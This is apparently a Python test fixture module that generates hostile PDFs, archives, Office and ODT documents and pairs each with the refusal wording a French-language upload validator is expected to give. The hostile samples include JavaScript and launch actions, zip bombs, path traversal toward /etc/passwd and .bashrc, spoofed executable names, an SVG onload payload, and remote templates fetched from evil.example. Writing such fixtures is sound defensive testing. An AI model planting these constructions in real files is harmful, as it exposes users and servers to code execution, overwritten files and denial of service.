"""Documents and pictures of the right type that harm their readers or the server."""

import io
import stat
import zipfile
from functools import cache
from typing import Any

from PIL import Image as PILImage
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

ODT = "application/vnd.oasis.opendocument.text"
OFFICE = {"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}
RELATIONS = "word/_rels/settings.xml.rels"
RELATION = (
    '<Relationships><Relationship Id="r" Type="http://schemas.example/{kind}" '
    'Target="{target}" TargetMode="{mode}"/></Relationships>'
)


def archive(files: dict[str, bytes], first: str = "") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as written:
        if first:
            written.writestr(zipfile.ZipInfo("mimetype"), first)
        for name, content in files.items():
            written.writestr(name, content)
    return buffer.getvalue()


def with_relation(kind: str, target: str, mode: str = "External", encoding: str = "utf-8") -> bytes:
    text = RELATION.format(kind=kind, target=target, mode=mode)
    if encoding == "utf-16":
        text = '<?xml version="1.0" encoding="utf-16"?>' + text
    return archive(OFFICE | {RELATIONS: text.encode(encoding)})


def names(**values: Any) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in values.items()})


def action(kind: str) -> DictionaryObject:
    return names(S=NameObject(kind), JS=TextStringObject("app.alert(1)"))


def only(kind: str) -> DictionaryObject:
    return names(S=NameObject(kind))


def pdf(*, page: dict[str, Any] | None = None, pages: int = 1, password="", **root: Any) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(100, 100)
    for key, value in root.items():
        writer.root_object[NameObject(f"/{key}")] = value
    for key, value in (page or {}).items():
        writer.pages[0][NameObject(f"/{key}")] = value
    if password:
        writer.encrypt(password)
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def annotated(**values: Any) -> bytes:
    square = ArrayObject([NumberObject(0)] * 4)
    note = names(Type=NameObject("/Annot"), Rect=square, **values)
    return pdf(page={"Annots": ArrayObject([note])})


def with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_attachment("facture.exe", b"MZ")
    return written(writer)


def with_link() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://example.org/"))
    return written(writer)


def deep_script() -> bytes:
    """A script in the third of three chained actions."""
    first = names(S=NameObject("/URI"), URI=TextStringObject("https://example.org/"))
    first[NameObject("/Next")] = ArrayObject(
        [names(S=NameObject("/Named"), Next=action("/JavaScript"))]
    )
    return pdf(OpenAction=first)


def lying_size() -> bytes:
    """An archive that announces ten bytes where a thousand are."""
    data = archive({"a.txt": b"x" * 1000})
    return data.replace((1000).to_bytes(4, "little"), (10).to_bytes(4, "little"))


def with_link_to(target: str) -> bytes:
    entry = zipfile.ZipInfo("lien.txt")
    entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as written_archive:
        written_archive.writestr(entry, target)
    return buffer.getvalue()


def locked() -> bytes:
    """An archive with an entry marked as encrypted."""
    data = bytearray(archive({"a.txt": b"x"}))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(signature) + offset] |= 1
    return bytes(data)


@cache
def scan_bomb(scans: int = 2000, size: int = 2000) -> bytes:
    """A progressive JPEG that repeats its last scan `scans` times."""
    buffer = io.BytesIO()
    PILImage.new("L", (size, size), 128).save(buffer, "JPEG", progressive=True)
    data = buffer.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * scans + b"\xff\xd9"


BOMB = {"a.txt": b"\0" * 2_000_000}
META = '<x xmlns:m="urn:m" xmlns:l="urn:l"><m:template l:href="{}"/></x>'
TOO_MUCH = "en plusieurs morceaux"
# The name of a document, its content, and words of the refusal.
HOSTILE = {
    "script.pdf": (pdf(OpenAction=action("/JavaScript")), "imprimez-le"),
    "script-in-page.pdf": (pdf(page={"AA": names(O=action("/JavaScript"))}), "imprimez-le"),
    "script-in-annotation.pdf": (
        annotated(Subtype=NameObject("/Link"), A=action("/JavaScript")), "imprimez-le"
    ),
    "script-in-form.pdf": (
        pdf(AcroForm=names(Fields=ArrayObject([names(AA=names(K=action("/JavaScript")))]))),
        "imprimez-le",
    ),
    "script-far-in.pdf": (deep_script(), "imprimez-le"),
    "events.pdf": (pdf(AA=names(WC=action("/JavaScript"))), "programme"),
    "launch.pdf": (pdf(OpenAction=only("/Launch")), "imprimez-le"),
    "launch-in-annotation.pdf": (
        annotated(Subtype=NameObject("/Link"), A=only("/Launch")), "imprimez-le"
    ),
    "sends-form.pdf": (pdf(OpenAction=only("/SubmitForm")), "imprimez-le"),
    "xfa.pdf": (pdf(AcroForm=names(XFA=TextStringObject("x"))), "programme"),
    "film.pdf": (annotated(Subtype=NameObject("/RichMedia")), "programme"),
    "attachment.pdf": (with_attachment(), "fichier caché"),
    "attachment-in-page.pdf": (
        annotated(Subtype=NameObject("/FileAttachment"), FS=names(EF=names())), "fichier caché"
    ),
    "locked.pdf": (pdf(password="secret"), "protégé"),
    "no-page.pdf": (pdf(pages=0), "abîmé"),
    "no-structure.pdf": (b"%PDF-1.7\n" + b"garbage" * 50, "abîmé"),
    "cut.pdf": (pdf()[:150], "abîmé"),
    "bomb.zip": (archive(BOMB), TOO_MUCH),
    "bomb.docx": (archive(OFFICE | BOMB), TOO_MUCH),
    "bomb.odt": (archive(BOMB, ODT), TOO_MUCH),
    "many.zip": (archive({f"{number}.txt": b"" for number in range(60)}), TOO_MUCH),
    "escape.zip": (archive({"../../.bashrc": b"x"}), "hors de leur dossier"),
    "root.zip": (archive({"/etc/passwd": b"x"}), "hors de leur dossier"),
    "windows.zip": (archive({"C:\\windows\\a.txt": b"x"}), "hors de leur dossier"),
    "link.zip": (with_link_to("/etc/passwd"), "hors de leur dossier"),
    "program.zip": (archive({"photos/vacances.jpg.EXE": b"MZ"}), "vacances.jpg.EXE"),
    "page.zip": (archive({"index.html": b"<script>"}), "Retirez-le"),
    "drawing.zip": (archive({"logo.svg": b"<svg onload=alert(1)>"}), "Retirez-le"),
    "unknown.zip": (archive({"lisez-moi": b"x"}), "Retirez-le"),
    "archive-in-archive.zip": (archive({"b.zip": archive({"a.txt": b"x"})}), "Retirez-le"),
    "other-archive.zip": (archive({"b.7z": b"7z"}), "Retirez-le"),
    "script-in-archive.zip": (
        archive({"a.pdf": pdf(OpenAction=action("/JavaScript"))}), "programme"
    ),
    "macro-in-archive.zip": (
        archive({"a.docx": archive(OFFICE | {"word/vbaProject.bin": b"x"})}), "macros"
    ),
    "dot.zip": (archive({"programme.exe.": b"MZ"}), "trompeur"),
    "blank.zip": (archive({"facture.pdf ": b"x"}), "trompeur"),
    "turned.zip": (archive({"facture\u202efdp.txt": b"x"}), "trompeur"),
    "lying.zip": (lying_size(), "pas celui"),
    "locked.zip": (locked(), "mot de passe"),
    "macro.docx": (archive(OFFICE | {"word/vbaProject.bin": b"x"}), "macros"),
    "macro-by-type.docx": (
        archive(OFFICE | {"[Content_Types].xml": b"<x t='application/x.macroEnabled.main'/>"}),
        "macros",
    ),
    "object.docx": (archive(OFFICE | {"word/embeddings/oleObject1.bin": b"x"}), "programme"),
    "active-x.docx": (archive(OFFICE | {"word/activeX/activeX1.bin": b"x"}), "programme"),
    "template.docx": (with_relation("attachedTemplate", "https://evil.example/a.dotm"), "modèle"),
    "template-utf-16.docx": (
        with_relation("attachedTemplate", "https://evil.example/a.dotm", encoding="utf-16"),
        "modèle",
    ),
    "template-hidden.docx": (
        with_relation("attachedTemplate", "file://evil/a.dotm", "&#69;xternal"), "modèle"
    ),
    "tracker.docx": (with_relation("image", "https://evil.example/a.gif"), "modèle"),
    "macro.odt": (archive({"Basic/a.xml": b"x"}, ODT), "macros"),
    "event.odt": (
        archive({"content.xml": b"<x href='vnd.sun.star.script:a.py'/>"}, ODT), "macros"
    ),
    "template.odt": (
        archive({"meta.xml": META.format("https://evil.example/a.ott").encode()}, ODT), "modèle"
    ),
}  # fmt: skip
HONEST = {
    "form.pdf": pdf(AcroForm=names()),
    "link.pdf": with_link(),
    "place.pdf": pdf(OpenAction=ArrayObject([NumberObject(0), NameObject("/Fit")])),
    "folders.zip": archive({"a/b/c..d.txt": b"x", "données.csv": b"a;b", "a/note.pdf": pdf()}),
    "large.zip": archive({"a.csv": b"a;b\n" * 100_000}),
    "link.docx": with_relation("hyperlink", "https://example.org/"),
    "template.docx": with_relation("attachedTemplate", "file:///a.dotx", "Internal"),
    "template.odt": archive({"meta.xml": META.format("modele.ott").encode()}, ODT),
}
